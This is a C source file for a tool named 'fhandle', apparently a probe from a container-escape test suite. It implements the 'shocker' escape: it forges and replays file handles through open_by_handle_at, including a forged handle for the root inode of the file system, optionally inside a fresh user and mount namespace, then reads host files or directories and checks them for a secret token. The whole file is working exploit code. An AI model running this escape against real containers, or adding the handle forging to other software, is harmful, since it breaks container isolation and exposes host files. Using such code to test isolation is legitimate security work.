// SPDX-License-Identifier: Apache-2.0
/* fhandle: open a host file by handle, around the view (the "shocker" escape).
 *
 *   fhandle get PATH
 *       (on the host) print PATH's handle: "TYPE HEX"
 *   fhandle attack [nested] MOUNT_DIR TOKEN NAME=TYPE:HEX...
 *       name_to_handle_at on MOUNT_DIR (control: handles work here), then
 *       open_by_handle_at(MOUNT_DIR, handle) for each NAME, and for a handle forged for
 *       the root inode of MOUNT_DIR's file system; an open that works is read (files) or
 *       searched for a "secret" entry (directories) and reported with TOKEN found or not.
 *       "nested" first makes a user and mount namespace of its own (CAP_DAC_READ_SEARCH
 *       and CAP_SYS_ADMIN there: the kernel's relaxed check since Linux 6.10 applies).
 */
#include "esc.h"

#include <sched.h>
#include <sys/stat.h>

#define HMAX 128

static struct file_handle *parse(const char *spec)
{
    /* TYPE:HEX */
    struct file_handle *h = calloc(1, sizeof *h + HMAX);
    char *end;
    h->handle_type = (int)strtol(spec, &end, 10);
    if (*end != ':')
        return NULL;
    const char *x = end + 1;
    size_t n = strlen(x) / 2;
    if (n > HMAX)
        return NULL;
    for (size_t i = 0; i < n; i++) {
        unsigned v;
        if (sscanf(x + 2 * i, "%2x", &v) != 1)
            return NULL;
        h->f_handle[i] = (unsigned char)v;
    }
    h->handle_bytes = (unsigned)n;
    return h;
}

static void try_open(int mfd, const char *label, struct file_handle *h, const char *token)
{
    int fd = (int)syscall(SYS_open_by_handle_at, mfd, h, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        report(label, -1);
        return;
    }
    struct stat st;
    fstat(fd, &st);
    int found;
    if (S_ISDIR(st.st_mode)) {
        found = file_has(fd, "secret", token);
    } else {
        char buf[4096];
        ssize_t n = read_some(fd, buf, sizeof buf);
        found = n > 0 && strstr(buf, token) != NULL;
    }
    printf("%s ok %s token=%s\n", label, S_ISDIR(st.st_mode) ? "dir" : "file", found == 1 ? "FOUND" : "no");
    fflush(stdout);
    close(fd);
}

int main(int argc, char **argv)
{
    if (argc == 3 && !strcmp(argv[1], "get")) {
        struct file_handle *h = calloc(1, sizeof *h + HMAX);
        h->handle_bytes = HMAX;
        int mnt;
        if (syscall(SYS_name_to_handle_at, AT_FDCWD, argv[2], h, &mnt, 0) < 0) {
            perror("name_to_handle_at");
            return 1;
        }
        printf("%d:", h->handle_type);
        for (unsigned i = 0; i < h->handle_bytes; i++)
            printf("%02x", h->f_handle[i]);
        printf("\n");
        return 0;
    }
    if (argc < 4 || strcmp(argv[1], "attack")) {
        fprintf(stderr, "usage: fhandle get PATH | fhandle attack [nested] MOUNT_DIR TOKEN NAME=TYPE:HEX...\n");
        return 2;
    }
    int a = 2;
    bool nested = !strcmp(argv[a], "nested");
    if (nested)
        a++;
    const char *dir = argv[a], *token = argv[a + 1];
    a += 2;
    if (nested) {
        uid_t uid = getuid();
        gid_t gid = getgid();
        if (report("unshare_user_mount", unshare(CLONE_NEWUSER | CLONE_NEWNS)) < 0)
            return 0;
        report("map_root", map_self_as_root(uid, gid));
    }
    const char *pfx = nested ? "nested_" : "";
    char label[128];

    /* control: the file system hands out handles here */
    struct file_handle *own = calloc(1, sizeof *own + HMAX);
    own->handle_bytes = HMAX;
    int mnt_id;
    snprintf(label, sizeof label, "%sname_to_handle_at", pfx);
    if (report(label, syscall(SYS_name_to_handle_at, AT_FDCWD, dir, own, &mnt_id, 0)) < 0)
        return 0;
    int mfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mfd < 0) {
        report("open_mount_dir", -1);
        return 0;
    }
    /* the directory's own handle: refused without CAP_DAC_READ_SEARCH; in a nested
     * namespace the relaxed check of Linux 6.10 may allow it (directories, in the
     * subtree of the mount only) */
    snprintf(label, sizeof label, "%sopen_own_dir", pfx);
    try_open(mfd, label, own, token);

    for (int i = a; i < argc; i++) {
        char *eq = strchr(argv[i], '=');
        if (!eq)
            continue;
        *eq = '\0';
        struct file_handle *h = parse(eq + 1);
        if (!h) {
            fprintf(stderr, "fhandle: bad handle %s\n", eq + 1);
            return 2;
        }
        snprintf(label, sizeof label, "%sopen_%s", pfx, argv[i]);
        try_open(mfd, label, h, token);
    }

    /* forged: the root inode (2 on ext2/3/4) of the same file system, generation 0, in
     * the common 32-bit inode+generation format */
    if (own->handle_type == 1 /* FILEID_INO32_GEN */ || own->handle_type == 2 /* FILEID_INO32_GEN_PARENT */) {
        struct file_handle *h = calloc(1, sizeof *h + 8);
        h->handle_type = 1;
        h->handle_bytes = 8;
        unsigned ino = 2, gen = 0;
        memcpy(h->f_handle, &ino, 4);
        memcpy(h->f_handle + 4, &gen, 4);
        snprintf(label, sizeof label, "%sopen_forged_root", pfx);
        try_open(mfd, label, h, token);
    } else {
        printf("%sopen_forged_root SKIPPED handle type %d\n", pfx, own->handle_type);
    }
    return 0;
}
